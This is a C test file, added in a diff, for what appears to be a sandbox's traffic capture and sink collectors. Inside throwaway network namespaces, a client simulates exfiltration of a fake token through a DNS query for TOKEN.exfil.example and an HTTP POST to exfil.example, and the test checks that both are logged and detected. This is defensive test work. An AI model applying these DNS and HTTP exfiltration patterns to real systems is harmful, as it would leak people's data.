@@ -1,0 +1,506 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * The capture and sink collectors end to end, without a VM: two network
+ * namespaces this test creates (a "host" one with a bridge, and a "guest"
+ * one on a veth into it), the collectors started in the host one, a client
+ * in the guest one doing DNS (UDP and TCP) and an HTTP POST carrying a
+ * token. Needs root; exits 77 (skipped) otherwise. Nothing is sent outside
+ * the two namespaces, and both are deleted at the end.
+ */
+#include <arpa/inet.h>
+#include <check.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <jansson.h>
+#include <netinet/in.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "collectors/analyze.h"
+#include "collectors/collector.h"
+#include "common/util.h"
+
+#define SINK_IP  "10.213.99.1"
+#define GUEST_IP "10.213.99.2"
+#define BRIDGE   "avtbbr0"
+#define TOKEN    "AVTBQ3F7K2M9XWZP4R8TAB"
+#define BODY_LEN 200000
+
+static char ns_host[64], ns_guest[64];
+static char evdir[64];
+
+static int ip_cmd(const char *const argv[])
+{
+    avtb_error err = {0};
+    int status = -1;
+
+    if (avtb_spawn(argv, 10000, NULL, &status, &err) != AVTB_OK) {
+        fprintf(stderr, "%s: %s\n", argv[1], err.msg);
+        return -1;
+    }
+    return status == 0 ? 0 : -1;
+}
+
+#define IP(...) ip_cmd((const char *const[]){"ip", __VA_ARGS__, NULL})
+
+static void netns_delete(void)
+{
+    if (ns_host[0] != '\0')
+        (void)IP("netns", "del", ns_host);
+    if (ns_guest[0] != '\0')
+        (void)IP("netns", "del", ns_guest);
+}
+
+/* The veth is created inside the host namespace with its peer inside the guest one. */
+static int netns_create(void)
+{
+    snprintf(ns_host, sizeof(ns_host), "avtb-test-collectors-%d", (int)getpid());
+    snprintf(ns_guest, sizeof(ns_guest), "avtb-test-collectors-%d-g", (int)getpid());
+    if (IP("netns", "add", ns_host) || IP("netns", "add", ns_guest) ||
+        IP("-n", ns_host, "link", "set", "lo", "up") ||
+        IP("-n", ns_guest, "link", "set", "lo", "up") ||
+        IP("-n", ns_host, "link", "add", BRIDGE, "type", "bridge") ||
+        IP("-n", ns_host, "link", "add", "avtbt0", "type", "veth", "peer", "name", "avtbg0",
+           "netns", ns_guest) ||
+        IP("-n", ns_host, "link", "set", "avtbt0", "master", BRIDGE) ||
+        IP("-n", ns_host, "addr", "add", SINK_IP "/24", "dev", BRIDGE) ||
+        IP("-n", ns_host, "link", "set", BRIDGE, "up") ||
+        IP("-n", ns_host, "link", "set", "avtbt0", "up") ||
+        IP("-n", ns_guest, "addr", "add", GUEST_IP "/24", "dev", "avtbg0") ||
+        IP("-n", ns_guest, "link", "set", "avtbg0", "up"))
+        return -1;
+    return 0;
+}
+
+static int enter_netns(const char *name)
+{
+    char path[128];
+    int fd, r;
+
+    snprintf(path, sizeof(path), "/run/netns/%s", name);
+    fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        return -1;
+    r = setns(fd, CLONE_NEWNET);
+    close(fd);
+    return r;
+}
+
+static const avtb_collector_ops *collector(const char *name)
+{
+    for (size_t i = 0; avtb_collectors[i] != NULL; i++)
+        if (strcmp(avtb_collectors[i]->name, name) == 0)
+            return avtb_collectors[i];
+    ck_abort_msg("no collector %s", name);
+    return NULL;
+}
+
+static avtb_collector_env env_for(const char *bridge, const char *ip)
+{
+    avtb_collector_env env = {evdir, bridge, ip, GUEST_IP, "test"};
+
+    return env;
+}
+
+static void setup(void)
+{
+    snprintf(evdir, sizeof(evdir), "/tmp/avtb-test-collectors-XXXXXX");
+    ck_assert_ptr_nonnull(mkdtemp(evdir));
+}
+
+/* AVTB_TEST_KEEP=1 keeps the evidence directories for a look. */
+static void teardown(void)
+{
+    avtb_error err = {0};
+
+    if (getenv("AVTB_TEST_KEEP") != NULL) {
+        fprintf(stderr, "evidence kept in %s\n", evdir);
+        return;
+    }
+    ck_assert_int_eq(avtb_rm_rf(evdir, &err), AVTB_OK);
+}
+
+/* --- The guest side ----------------------------------------------------- */
+
+static int sock_to(int type, uint16_t port)
+{
+    struct timeval tv = {3, 0};
+    struct sockaddr_in sa = {0};
+    int fd = socket(AF_INET, type, 0);
+
+    if (fd < 0)
+        return -1;
+    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+    sa.sin_family = AF_INET;
+    sa.sin_port = htons(port);
+    inet_pton(AF_INET, SINK_IP, &sa.sin_addr);
+    if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
+        close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+static size_t dns_query(uint8_t *q, uint16_t id, const char *name, uint16_t type)
+{
+    size_t o = 12;
+
+    memset(q, 0, 12);
+    q[0] = (uint8_t)(id >> 8);
+    q[1] = (uint8_t)id;
+    q[2] = 0x01; /* RD */
+    q[5] = 1;
+    while (*name) {
+        size_t l = strcspn(name, ".");
+
+        q[o++] = (uint8_t)l;
+        memcpy(q + o, name, l);
+        o += l;
+        name += l + (name[l] == '.');
+    }
+    q[o++] = 0;
+    q[o++] = (uint8_t)(type >> 8);
+    q[o++] = (uint8_t)type;
+    q[o++] = 0;
+    q[o++] = 1;
+    return o;
+}
+
+/* Answer count, and whether the last 4 bytes are the sink address when one is expected. */
+static int dns_check(const uint8_t *r, ssize_t n, uint16_t id, int want_answers)
+{
+    uint8_t sink[4];
+
+    inet_pton(AF_INET, SINK_IP, sink);
+    if (n < 12 || r[0] != (id >> 8) || r[1] != (id & 0xff) || !(r[2] & 0x80) || (r[3] & 0x0f))
+        return -1;
+    if (r[7] != want_answers)
+        return -1;
+    if (want_answers && memcmp(r + n - 4, sink, 4) != 0)
+        return -1;
+    return 0;
+}
+
+static int guest_dns_udp(void)
+{
+    uint8_t q[512], r[512];
+    int fd = sock_to(SOCK_DGRAM, 53);
+    size_t n;
+    ssize_t got;
+
+    if (fd < 0)
+        return -1;
+    n = dns_query(q, 0x1234, TOKEN ".exfil.example", 1);
+    if (send(fd, q, n, 0) != (ssize_t)n || (got = recv(fd, r, sizeof(r), 0)) < 0 ||
+        dns_check(r, got, 0x1234, 1) != 0)
+        goto fail;
+    n = dns_query(q, 0x1235, "v6.example", 28);
+    if (send(fd, q, n, 0) != (ssize_t)n || (got = recv(fd, r, sizeof(r), 0)) < 0 ||
+        dns_check(r, got, 0x1235, 0) != 0)
+        goto fail;
+    close(fd);
+    return 0;
+fail:
+    close(fd);
+    return -1;
+}
+
+static int read_full(int fd, uint8_t *buf, size_t n)
+{
+    for (size_t got = 0; got < n;) {
+        ssize_t k = recv(fd, buf + got, n - got, 0);
+
+        if (k <= 0)
+            return -1;
+        got += (size_t)k;
+    }
+    return 0;
+}
+
+static int guest_dns_tcp(void)
+{
+    uint8_t q[514], r[514];
+    int fd = sock_to(SOCK_STREAM, 53);
+    size_t n, rn;
+
+    if (fd < 0)
+        return -1;
+    n = dns_query(q + 2, 0x4321, "tcp.example", 1);
+    q[0] = (uint8_t)(n >> 8);
+    q[1] = (uint8_t)n;
+    if (send(fd, q, n + 2, 0) != (ssize_t)(n + 2) || read_full(fd, r, 2) != 0)
+        goto fail;
+    rn = (size_t)r[0] << 8 | r[1];
+    if (rn > sizeof(r) - 2 || read_full(fd, r + 2, rn) != 0 ||
+        dns_check(r + 2, (ssize_t)rn, 0x4321, 1) != 0)
+        goto fail;
+    close(fd);
+    return 0;
+fail:
+    close(fd);
+    return -1;
+}
+
+static char *post_body(void)
+{
+    char *b = malloc(BODY_LEN + 1);
+
+    for (size_t i = 0; i < BODY_LEN; i++)
+        b[i] = (char)('a' + i % 26);
+    /* Far into the body, so it crosses segment boundaries at some offset. */
+    memcpy(b + BODY_LEN - 5000, TOKEN, strlen(TOKEN));
+    b[BODY_LEN] = '\0';
+    return b;
+}
+
+static int guest_http(void)
+{
+    char head[256], resp[1024];
+    char *body = post_body();
+    int fd = sock_to(SOCK_STREAM, 80), hl;
+    size_t got = 0;
+    ssize_t k;
+
+    if (fd < 0)
+        goto fail;
+    hl = snprintf(head, sizeof(head),
+                  "POST /upload?id=1 HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n"
+                  "Connection: close\r\n\r\n",
+                  BODY_LEN);
+    if (send(fd, head, (size_t)hl, 0) != hl || send(fd, body, BODY_LEN, 0) != BODY_LEN)
+        goto fail;
+    while (got < sizeof(resp) - 1 && (k = recv(fd, resp + got, sizeof(resp) - 1 - got, 0)) > 0)
+        got += (size_t)k;
+    resp[got] = '\0';
+    if (strncmp(resp, "HTTP/1.1 200", 12) != 0 || strstr(resp, "{\"status\":\"ok\"}") == NULL)
+        goto fail;
+    close(fd);
+    free(body);
+    return 0;
+fail:
+    if (fd >= 0)
+        close(fd);
+    free(body);
+    return -1;
+}
+
+/* Runs the guest's traffic in the guest namespace; 0 if every exchange worked. */
+static int run_guest(void)
+{
+    pid_t pid = fork();
+    int status;
+
+    ck_assert_int_ge(pid, 0);
+    if (pid == 0) {
+        alarm(20); /* every exchange is bounded; this bounds the whole */
+        if (enter_netns(ns_guest) != 0)
+            _exit(10);
+        if (guest_dns_udp() != 0)
+            _exit(11);
+        if (guest_dns_tcp() != 0)
+            _exit(12);
+        if (guest_http() != 0)
+            _exit(13);
+        _exit(0);
+    }
+    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
+    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+}
+
+/* --- Checks on the evidence ---------------------------------------------- */
+
+static json_t *jsonl_line(const char *name, size_t index)
+{
+    char *path = avtb_path_join(evdir, name), line[4096];
+    json_t *o = NULL;
+    FILE *fp = fopen(path, "r");
+
+    ck_assert_ptr_nonnull(fp);
+    for (size_t i = 0; i <= index; i++)
+        ck_assert_ptr_nonnull(fgets(line, sizeof(line), fp));
+    o = json_loads(line, 0, NULL);
+    ck_assert_ptr_nonnull(o);
+    fclose(fp);
+    free(path);
+    return o;
+}
+
+static const char *jstr(json_t *o, const char *key)
+{
+    const char *s = json_string_value(json_object_get(o, key));
+
+    ck_assert_msg(s != NULL, "no string %s", key);
+    return s;
+}
+
+START_TEST(sink_and_capture_record_an_upload)
+{
+    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
+    const avtb_collector_ops *cap = collector("capture"), *snk = collector("sink");
+    const char *const toks[] = {TOKEN};
+    void *cap_state = NULL, *snk_state = NULL;
+    avtb_analyze_stats st;
+    avtb_findings f = {0};
+    avtb_error err = {0};
+    char sha[65], *path, *body;
+    bool saw_http = false, saw_dns = false;
+    json_t *o;
+
+    ck_assert_msg(cap->start(&env, &cap_state, &err) == AVTB_OK, "capture: %s", err.msg);
+    ck_assert_msg(snk->start(&env, &snk_state, &err) == AVTB_OK, "sink: %s", err.msg);
+    ck_assert_int_eq(run_guest(), 0);
+    ck_assert_msg(snk->stop(snk_state, &err), "sink stop: %s", err.msg);
+    ck_assert_msg(cap->stop(cap_state, &err), "capture stop: %s", err.msg);
+
+    o = jsonl_line("sink-dns.jsonl", 0);
+    ck_assert_str_eq(jstr(o, "client"), GUEST_IP);
+    ck_assert_str_eq(jstr(o, "qname"), TOKEN ".exfil.example");
+    ck_assert_str_eq(jstr(o, "qtype"), "A");
+    ck_assert_str_eq(jstr(o, "answer"), SINK_IP);
+    json_decref(o);
+    o = jsonl_line("sink-dns.jsonl", 1);
+    ck_assert_str_eq(jstr(o, "qtype"), "AAAA");
+    ck_assert(json_is_null(json_object_get(o, "answer")));
+    json_decref(o);
+    o = jsonl_line("sink-dns.jsonl", 2);
+    ck_assert_str_eq(jstr(o, "transport"), "tcp");
+    ck_assert_str_eq(jstr(o, "qname"), "tcp.example");
+    json_decref(o);
+
+    body = post_body();
+    avtb_sha256_hex(body, BODY_LEN, sha);
+    free(body);
+    o = jsonl_line("sink-http.jsonl", 0);
+    ck_assert_str_eq(jstr(o, "method"), "POST");
+    ck_assert_str_eq(jstr(o, "host"), "exfil.example");
+    ck_assert_str_eq(jstr(o, "uri"), "/upload?id=1");
+    ck_assert_int_eq(json_integer_value(json_object_get(o, "body_bytes")), BODY_LEN);
+    ck_assert_str_eq(jstr(o, "body_sha256"), sha);
+    json_decref(o);
+
+    path = avtb_path_join(evdir, "capture.json");
+    o = json_load_file(path, 0, NULL);
+    free(path);
+    ck_assert_ptr_nonnull(o);
+    ck_assert(json_is_true(json_object_get(o, "complete")));
+    ck_assert_str_eq(jstr(o, "interface"), BRIDGE);
+    ck_assert_int_gt(json_integer_value(json_object_get(o, "packets_received")), 10);
+    json_decref(o);
+
+    path = avtb_path_join(evdir, "capture.pcap");
+    ck_assert_msg(avtb_analyze_pcap(path, toks, 1, &f, &st, &err) == AVTB_OK, "%s", err.msg);
+    free(path);
+    for (size_t i = 0; i < f.count; i++) {
+        if (strcmp(f.items[i].protocol, "http") == 0) {
+            saw_http = true;
+            ck_assert_str_eq(f.items[i].src.ip, GUEST_IP);
+            ck_assert_str_eq(f.items[i].dst.ip, SINK_IP);
+            ck_assert_uint_eq(f.items[i].dst.port, 80);
+            ck_assert_str_eq(f.items[i].dst.host, "exfil.example");
+            ck_assert_str_eq(f.items[i].encoding, "http-body");
+        } else if (strcmp(f.items[i].protocol, "dns") == 0 &&
+                   strcmp(f.items[i].src.ip, GUEST_IP) == 0) {
+            saw_dns = true;
+        }
+    }
+    ck_assert(saw_http);
+    ck_assert(saw_dns);
+    ck_assert_uint_eq(st.anomalies, 0);
+    avtb_findings_clear(&f);
+}
+END_TEST
+
+START_TEST(start_errors_are_reported)
+{
+    avtb_collector_env no_if = env_for("avtbnope0", SINK_IP);
+    avtb_collector_env no_ip = env_for(BRIDGE, "10.213.98.1");
+    void *state = (void *)1;
+    avtb_error err = {0};
+
+    ck_assert_int_ne(collector("capture")->start(&no_if, &state, &err), AVTB_OK);
+    ck_assert_ptr_null(state);
+    ck_assert_ptr_nonnull(strstr(err.msg, "avtbnope0"));
+    avtb_error_clear(&err);
+    ck_assert_int_ne(collector("sink")->start(&no_ip, &state, &err), AVTB_OK);
+    ck_assert_ptr_nonnull(strstr(err.msg, "10.213.98.1"));
+    ck_assert(collector("sink")->stop(NULL, &err));
+}
+END_TEST
+
+/* The only child of this process, found through /proc. */
+static pid_t only_child(void)
+{
+    char path[64], buf[256] = "", *tok, *save = NULL;
+    pid_t pid = 0;
+    int n = 0;
+    FILE *fp;
+
+    snprintf(path, sizeof(path), "/proc/self/task/%d/children", (int)getpid());
+    fp = fopen(path, "r");
+    ck_assert_ptr_nonnull(fp);
+    ck_assert_ptr_nonnull(fgets(buf, sizeof(buf), fp));
+    fclose(fp);
+    for (tok = strtok_r(buf, " \n", &save); tok != NULL; tok = strtok_r(NULL, " \n", &save)) {
+        pid = (pid_t)atoi(tok);
+        n++;
+    }
+    ck_assert_int_eq(n, 1);
+    return pid;
+}
+
+START_TEST(crashed_capture_is_incomplete)
+{
+    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
+    const avtb_collector_ops *cap = collector("capture");
+    void *state = NULL;
+    avtb_error err = {0};
+    pid_t child;
+
+    ck_assert_msg(cap->start(&env, &state, &err) == AVTB_OK, "%s", err.msg);
+    child = only_child();
+    ck_assert_int_gt(child, 0);
+    ck_assert_int_eq(kill(child, SIGKILL), 0);
+    usleep(100000);
+    ck_assert(!cap->stop(state, &err));
+    ck_assert_ptr_nonnull(strstr(err.msg, "signal 9"));
+}
+END_TEST
+
+int main(void)
+{
+    Suite *s = suite_create("sink_capture");
+    TCase *tc = tcase_create("netns");
+    int failed = 1;
+    SRunner *sr;
+
+    if (geteuid() != 0) {
+        fprintf(stderr, "test_sink_capture: skipped: needs root to create network namespaces\n");
+        return 77;
+    }
+    if (netns_create() != 0 || enter_netns(ns_host) != 0) {
+        fprintf(stderr, "test_sink_capture: cannot set up the test namespaces\n");
+        netns_delete();
+        return 1;
+    }
+    tcase_add_checked_fixture(tc, setup, teardown);
+    tcase_set_timeout(tc, 60);
+    tcase_add_test(tc, sink_and_capture_record_an_upload);
+    tcase_add_test(tc, start_errors_are_reported);
+    tcase_add_test(tc, crashed_capture_is_incomplete);
+    suite_add_tcase(s, tc);
+    sr = srunner_create(s);
+    srunner_run_all(sr, CK_NORMAL);
+    failed = srunner_ntests_failed(sr);
+    srunner_free(sr);
+    netns_delete();
+    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
+}
